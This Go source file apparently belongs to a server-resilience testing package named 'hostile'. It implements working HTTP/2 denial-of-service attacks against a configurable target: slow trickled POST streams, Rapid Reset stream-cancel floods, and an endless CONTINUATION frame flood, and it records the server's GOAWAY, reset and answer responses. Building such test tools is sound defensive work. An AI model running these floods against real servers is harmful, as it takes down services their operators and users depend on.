package hostile

import (
	"context"
	"errors"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// MaxStreams bounds the streams of one HTTP/2 connection.
const MaxStreams = 10000

// initialWindow is HTTP/2's initial flow-control window.
const initialWindow = 65535

// SlowStreamsConfig configures SlowStreamsH2C.
type SlowStreamsConfig struct {
	Target
	// Conns is how many connections to make, 1..MaxConns.
	Conns int
	// Streams is how many POST streams each connection opens, 1..MaxStreams,
	// but never more than the server's SETTINGS_MAX_CONCURRENT_STREAMS.
	Streams int
	// Length says which streams send content-length and which do not.
	Length Length
	// ContentLength is the length announced. Zero: DefaultContentLength.
	ContentLength int64
	// GRPC makes the streams gRPC calls (content-type application/grpc,
	// te: trailers).
	GRPC bool
	// Interval is the pace: one DATA byte per stream every Interval (within
	// the server's flow-control windows). Zero: nothing after the headers.
	Interval time.Duration
	// MaxBytes bounds the body bytes of each stream; a body of known
	// length stops one byte short of it. Zero: 1 MiB.
	MaxBytes int64
}

// StreamResult is what one attacker stream got.
type StreamResult struct {
	// Conn is the index of the stream's connection.
	Conn int
	// Stream is the stream id; 0 for a connection that failed before it
	// opened any.
	Stream uint32
	// Status is the :status of the answer, 0 if none came.
	Status int
	// End says how the stream ended: Answered, Reset (RST_STREAM with
	// Code), GoAway (with Code), Closed (the connection closed without
	// GOAWAY), DialFailed or Open.
	End End
	// Code is the RST_STREAM or GOAWAY code.
	Code http2.ErrCode
	// At is when it ended.
	At time.Duration
	// Sent is how many DATA bytes the stream sent.
	Sent int64
	// Err is why the connection failed, if it did.
	Err error
}

// Key is the status of the answer, or how the stream ended (with the code
// of a reset or a GOAWAY).
func (r StreamResult) Key() string {
	if r.Status != 0 {
		return strconv.Itoa(r.Status)
	}
	if r.End == Reset || r.End == GoAway {
		return r.End.String() + ":" + r.Code.String()
	}
	return r.End.String()
}

// SlowStreamsH2C makes cfg.Conns h2c connections (prior knowledge) to
// cfg.Addr from cfg.Source at once; each opens up to cfg.Streams POST
// streams and then sends one DATA byte on each every cfg.Interval, never
// finishing a body, until every stream ended (answered or reset), the
// connection ended, cfg.Duration passed or ctx ended. It returns one result
// per stream (or per connection that failed before it opened one); the
// error is for a bad configuration.
func SlowStreamsH2C(ctx context.Context, cfg SlowStreamsConfig) ([]StreamResult, error) {
	if err := cfg.Target.defaults(); err != nil {
		return nil, err
	}
	if err := checkCount("Conns", cfg.Conns, MaxConns); err != nil {
		return nil, err
	}
	if err := checkCount("Streams", cfg.Streams, MaxStreams); err != nil {
		return nil, err
	}
	if cfg.Interval < 0 {
		return nil, errors.New("hostile: Interval must not be negative")
	}
	if cfg.ContentLength <= 0 {
		cfg.ContentLength = DefaultContentLength
	}
	if cfg.MaxBytes <= 0 {
		cfg.MaxBytes = 1 << 20
	}
	clk := clock(time.Now())
	per := runEach(cfg.Conns, func(i int) []StreamResult { return cfg.conn(ctx, clk, i) })
	var out []StreamResult
	for _, rs := range per {
		out = append(out, rs...)
	}
	return out, nil
}

// slowStream is one stream's state; its connection's slowConn.mu guards it.
type slowStream struct {
	r      StreamResult
	limit  int64
	window int64
	ended  bool
}

// slowConn is the state of one SlowStreamsH2C connection, shared by its
// owner (which opens streams and sends bytes) and its read loop.
type slowConn struct {
	cfg     *SlowStreamsConfig
	clk     clock
	changed chan struct{} // a stream ended; buffered, one pending signal

	mu         sync.Mutex // guards what follows
	streams    map[uint32]*slowStream
	order      []uint32
	open       int
	connWindow int64
	initWindow int64
	h          *h2conn // set once the connection is up
}

func (cfg *SlowStreamsConfig) conn(ctx context.Context, clk clock, ci int) []StreamResult {
	ctx, cancel := context.WithTimeout(ctx, cfg.Duration)
	defer cancel()
	sc := &slowConn{cfg: cfg, clk: clk, changed: make(chan struct{}, 1), streams: map[uint32]*slowStream{},
		connWindow: initialWindow, initWindow: initialWindow}
	h, err := dialH2(ctx, &cfg.Target, clk, nil, sc.onFrame)
	if err != nil {
		cfg.Live.add(1, 1)
		return []StreamResult{{Conn: ci, End: DialFailed, At: clk.since(), Err: err}}
	}
	sc.mu.Lock()
	sc.h = h
	sc.mu.Unlock()

	n := cfg.Streams
	if m := h.maxStreams.Load(); m > 0 && int64(m) < int64(n) {
		n = int(m)
	}
	for j := range n {
		known := !cfg.Length.unknown(j)
		var extra []hpack.HeaderField
		ct := "application/octet-stream"
		if cfg.GRPC {
			ct = "application/grpc"
			extra = append(extra, hpack.HeaderField{Name: "te", Value: "trailers"})
		}
		extra = append(extra, hpack.HeaderField{Name: "content-type", Value: ct})
		limit := cfg.MaxBytes
		if known {
			extra = append(extra, hpack.HeaderField{Name: "content-length", Value: strconv.FormatInt(cfg.ContentLength, 10)})
			limit = min(limit, cfg.ContentLength-1)
		}
		_, err := h.openStream(requestFields("POST", &cfg.Target, extra...), false, func(id uint32) {
			sc.mu.Lock()
			sc.streams[id] = &slowStream{r: StreamResult{Conn: ci, Stream: id}, limit: limit, window: sc.initWindow}
			sc.order = append(sc.order, id)
			sc.open++
			sc.mu.Unlock()
			cfg.Live.add(1, 0)
		})
		if err != nil {
			break
		}
	}

	var tick <-chan time.Time
	if cfg.Interval > 0 {
		t := time.NewTicker(cfg.Interval)
		defer t.Stop()
		tick = t.C
	}
	sc.mu.Lock()
	open := sc.open
	sc.mu.Unlock()
loop:
	for open > 0 {
		select {
		case <-ctx.Done():
			break loop
		case <-h.done:
			break loop
		case <-sc.changed:
			sc.mu.Lock()
			open = sc.open
			sc.mu.Unlock()
		case <-tick:
			sc.sendBytes()
		}
	}
	serverEnded := h.ended()
	h.close()
	end, code, at := h.verdict(serverEnded)
	sc.mu.Lock()
	defer sc.mu.Unlock()
	out := make([]StreamResult, 0, len(sc.order))
	for _, id := range sc.order {
		s := sc.streams[id]
		if !s.ended {
			s.r.End, s.r.Code, s.r.At = end, code, at
			cfg.Live.add(0, 1)
		}
		out = append(out, s.r)
	}
	if len(out) == 0 {
		cfg.Live.add(1, 1)
		out = append(out, StreamResult{Conn: ci, End: end, Code: code, At: at, Err: h.err()})
	}
	return out
}

// sendBytes writes one DATA byte on every stream that may send one.
func (sc *slowConn) sendBytes() {
	sc.mu.Lock()
	var ids []uint32
	for _, id := range sc.order {
		s := sc.streams[id]
		if s.ended || s.r.Sent >= s.limit || s.window <= 0 || sc.connWindow <= 0 {
			continue
		}
		s.window--
		sc.connWindow--
		s.r.Sent++ // counted before the write: the read loop may end the stream meanwhile
		ids = append(ids, id)
	}
	h := sc.h
	sc.mu.Unlock()
	if len(ids) == 0 {
		return
	}
	_ = h.write(func(fr *http2.Framer) error {
		for _, id := range ids {
			if err := fr.WriteData(id, false, []byte{'x'}); err != nil {
				return err
			}
		}
		return nil
	})
}

// endLocked ends stream s.
func (sc *slowConn) endLocked(s *slowStream, end End, code http2.ErrCode) {
	if s.ended {
		return
	}
	s.ended = true
	s.r.End, s.r.Code, s.r.At = end, code, sc.clk.since()
	sc.open--
	sc.cfg.Live.add(0, 1)
	select {
	case sc.changed <- struct{}{}:
	default:
	}
}

// onFrame runs on the read loop.
func (sc *slowConn) onFrame(f http2.Frame) {
	var credit uint32 // connection window to give back for DATA
	sc.mu.Lock()
	switch f := f.(type) {
	case *http2.MetaHeadersFrame:
		if s := sc.streams[f.StreamID]; s != nil && !s.ended {
			if st, err := strconv.Atoi(f.PseudoValue("status")); err == nil && st >= 200 {
				s.r.Status = st
				sc.endLocked(s, Answered, 0)
			}
		}
	case *http2.RSTStreamFrame:
		if s := sc.streams[f.StreamID]; s != nil {
			sc.endLocked(s, Reset, f.ErrCode)
		}
	case *http2.GoAwayFrame:
		for id, s := range sc.streams {
			if id > f.LastStreamID {
				sc.endLocked(s, GoAway, f.ErrCode)
			}
		}
	case *http2.WindowUpdateFrame:
		if f.StreamID == 0 {
			sc.connWindow += int64(f.Increment)
		} else if s := sc.streams[f.StreamID]; s != nil {
			s.window += int64(f.Increment)
		}
	case *http2.SettingsFrame:
		if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
			delta := int64(v) - sc.initWindow
			sc.initWindow = int64(v)
			for _, s := range sc.streams {
				s.window += delta
			}
		}
	case *http2.DataFrame:
		credit = f.Length
	}
	h := sc.h
	sc.mu.Unlock()
	if credit > 0 && h != nil {
		_ = h.write(func(fr *http2.Framer) error { return fr.WriteWindowUpdate(0, credit) })
	}
}

// RapidResetConfig configures RapidReset.
type RapidResetConfig struct {
	Target
	// Conns is how many connections attack at once, 1..MaxConns.
	Conns int
	// Rounds is how many connections each of the Conns makes in turn: a
	// new one once the previous ended. Zero: 1.
	Rounds int
	// MaxResets is how many streams each connection opens and resets,
	// 1..MaxResets.
	MaxResets int
	// CloseWait is how long a connection waits for the server to close it
	// after a GOAWAY, or for a late GOAWAY once every stream was sent.
	// Zero: DefaultCloseWait.
	CloseWait time.Duration
}

// MaxResetsPerConn bounds RapidResetConfig.MaxResets.
const MaxResetsPerConn = 10_000_000

// ResetResult is what one rapid-reset connection got.
type ResetResult struct {
	// Sent is how many streams it opened and reset.
	Sent int
	// Answers is how many answers (HEADERS) the server sent back.
	Answers int
	// ServerResets is how many RST_STREAM the server sent.
	ServerResets int
	// End says how the connection ended: GoAway (with Code), Closed or
	// Reset by the server, Open if the tool ended it, DialFailed.
	End End
	// Code is the GOAWAY code.
	Code http2.ErrCode
	// Closed says the server closed the connection (after a GOAWAY, or
	// without one).
	Closed bool
	// At is when it ended.
	At time.Duration
	// Err is why the connection failed, if it did.
	Err error
}

// Key is how the connection ended, with the GOAWAY code.
func (r ResetResult) Key() string {
	if r.End == GoAway {
		return "goaway:" + r.Code.String()
	}
	return r.End.String()
}

// RapidReset makes cfg.Conns h2c connections (prior knowledge) to cfg.Addr
// from cfg.Source at once; each sends, as fast as it can, a GET (HEADERS
// with END_STREAM) and at once RST_STREAM(CANCEL) on the same stream, over
// and over, up to cfg.MaxResets times or until the server sends GOAWAY or
// closes the connection, cfg.Duration passes or ctx ends. With cfg.Rounds,
// each slot then dials again. It returns one result per connection; the
// error is for a bad configuration.
func RapidReset(ctx context.Context, cfg RapidResetConfig) ([]ResetResult, error) {
	if err := cfg.Target.defaults(); err != nil {
		return nil, err
	}
	if err := checkCount("Conns", cfg.Conns, MaxConns); err != nil {
		return nil, err
	}
	if err := checkCount("MaxResets", cfg.MaxResets, MaxResetsPerConn); err != nil {
		return nil, err
	}
	if cfg.Rounds <= 0 {
		cfg.Rounds = 1
	}
	if err := checkCount("Rounds", cfg.Rounds, 1000); err != nil {
		return nil, err
	}
	if cfg.CloseWait <= 0 {
		cfg.CloseWait = DefaultCloseWait
	}
	clk := clock(time.Now())
	per := runEach(cfg.Conns, func(int) []ResetResult {
		var rs []ResetResult
		for range cfg.Rounds {
			if ctx.Err() != nil {
				break
			}
			rs = append(rs, cfg.conn(ctx, clk))
		}
		return rs
	})
	var out []ResetResult
	for _, rs := range per {
		out = append(out, rs...)
	}
	return out, nil
}

func (cfg *RapidResetConfig) conn(ctx context.Context, clk clock) ResetResult {
	ctx, cancel := context.WithTimeout(ctx, cfg.Duration)
	defer cancel()
	sl := slot{l: cfg.Live}
	defer sl.done()
	var answers, resets atomic.Int64
	h, err := dialH2(ctx, &cfg.Target, clk, nil, func(f http2.Frame) {
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			if f.PseudoValue("status") != "" {
				answers.Add(1)
			}
		case *http2.RSTStreamFrame:
			resets.Add(1)
		}
	})
	if err != nil {
		return ResetResult{End: DialFailed, At: clk.since(), Err: err}
	}
	sl.start()
	fields := requestFields("GET", &cfg.Target)
	var r ResetResult
send:
	for r.Sent < cfg.MaxResets {
		select {
		case <-h.goAway:
			break send
		case <-h.done:
			break send
		case <-ctx.Done():
			break send
		default:
		}
		err := h.write(func(fr *http2.Framer) error {
			id, err := h.headersLocked(fields, true, true)
			if err != nil {
				return err
			}
			return fr.WriteRSTStream(id, http2.ErrCodeCancel)
		})
		if err != nil {
			break
		}
		r.Sent++
	}
	// The verdict: a GOAWAY and the close that follows it, or a late one.
	h.waitEnd(ctx, cfg.CloseWait)
	serverEnded := h.ended()
	h.close()
	r.End, r.Code, r.At = h.verdict(serverEnded)
	r.Closed = serverEnded && endOf(h.err()) != Open
	r.Answers, r.ServerResets = int(answers.Load()), int(resets.Load())
	return r
}

// FloodConfig configures ContinuationFlood.
type FloodConfig struct {
	Target
	// MaxFrames is how many CONTINUATION frames to send at most,
	// 1..MaxFloodFrames.
	MaxFrames int
	// Interval is the pause between frames; zero: as fast as possible.
	// With a pause, the count of frames written when the GOAWAY came
	// says closely how many the server took.
	Interval time.Duration
	// CloseWait is how long the tool waits for the server to close the
	// connection after a GOAWAY, or for a late GOAWAY once every frame
	// was sent. Zero: DefaultCloseWait.
	CloseWait time.Duration
}

// MaxFloodFrames bounds FloodConfig.MaxFrames.
const MaxFloodFrames = 10_000_000

// FloodResult is what a CONTINUATION flood got.
type FloodResult struct {
	// Written is how many CONTINUATION frames were written.
	Written int
	// WrittenAtGoAway is how many had been written when the GOAWAY was
	// read; -1 if none came.
	WrittenAtGoAway int
	// End says how the connection ended: GoAway (with Code), Closed or
	// Reset by the server without one, Open if the tool ended it.
	End End
	// Code is the GOAWAY code.
	Code http2.ErrCode
	// Closed says the server closed the connection.
	Closed bool
	// At is when it ended.
	At time.Duration
	// Err is why the connection failed, if it did.
	Err error
}

// ContinuationFlood makes one h2c connection (prior knowledge) to cfg.Addr
// from cfg.Source, sends a HEADERS frame without END_HEADERS and then
// empty CONTINUATION frames, never ending the header block, up to
// cfg.MaxFrames or until the server sends GOAWAY or closes the connection,
// cfg.Duration passes or ctx ends. The error is for a bad configuration.
func ContinuationFlood(ctx context.Context, cfg FloodConfig) (FloodResult, error) {
	if err := cfg.Target.defaults(); err != nil {
		return FloodResult{}, err
	}
	if err := checkCount("MaxFrames", cfg.MaxFrames, MaxFloodFrames); err != nil {
		return FloodResult{}, err
	}
	if cfg.Interval < 0 {
		return FloodResult{}, errors.New("hostile: Interval must not be negative")
	}
	if cfg.CloseWait <= 0 {
		cfg.CloseWait = DefaultCloseWait
	}
	clk := clock(time.Now())
	ctx, cancel := context.WithTimeout(ctx, cfg.Duration)
	defer cancel()
	sl := slot{l: cfg.Live}
	defer sl.done()
	var written atomic.Int64
	atGoAway := atomic.Int64{}
	atGoAway.Store(-1)
	h, err := dialH2(ctx, &cfg.Target, clk, nil, func(f http2.Frame) {
		if _, ok := f.(*http2.GoAwayFrame); ok {
			atGoAway.CompareAndSwap(-1, written.Load())
		}
	})
	if err != nil {
		return FloodResult{WrittenAtGoAway: -1, End: DialFailed, At: clk.since(), Err: err}, nil
	}
	sl.start()
	fields := requestFields("GET", &cfg.Target)
	err = h.write(func(*http2.Framer) error {
		_, err := h.headersLocked(fields, true, false)
		return err
	})
	var pause *time.Timer
	if cfg.Interval > 0 {
		pause = time.NewTimer(cfg.Interval)
		defer pause.Stop()
	}
flood:
	for err == nil && written.Load() < int64(cfg.MaxFrames) {
		select {
		case <-h.goAway:
			break flood
		case <-h.done:
			break flood
		case <-ctx.Done():
			break flood
		default:
		}
		// Counted before it is written: the GOAWAY it draws may be read
		// before the write returns.
		written.Add(1)
		if err = h.write(func(fr *http2.Framer) error { return fr.WriteContinuation(1, false, nil) }); err != nil {
			written.Add(-1)
			break
		}
		if pause != nil {
			pause.Reset(cfg.Interval)
			select {
			case <-pause.C:
			case <-h.goAway:
			case <-h.done:
			case <-ctx.Done():
			}
		}
	}
	h.waitEnd(ctx, cfg.CloseWait)
	serverEnded := h.ended()
	h.close()
	r := FloodResult{Written: int(written.Load()), WrittenAtGoAway: int(atGoAway.Load())}
	r.End, r.Code, r.At = h.verdict(serverEnded)
	r.Closed = serverEnded && endOf(h.err()) != Open
	if r.End == Open && err != nil {
		r.Err = err
	}
	return r, nil
}
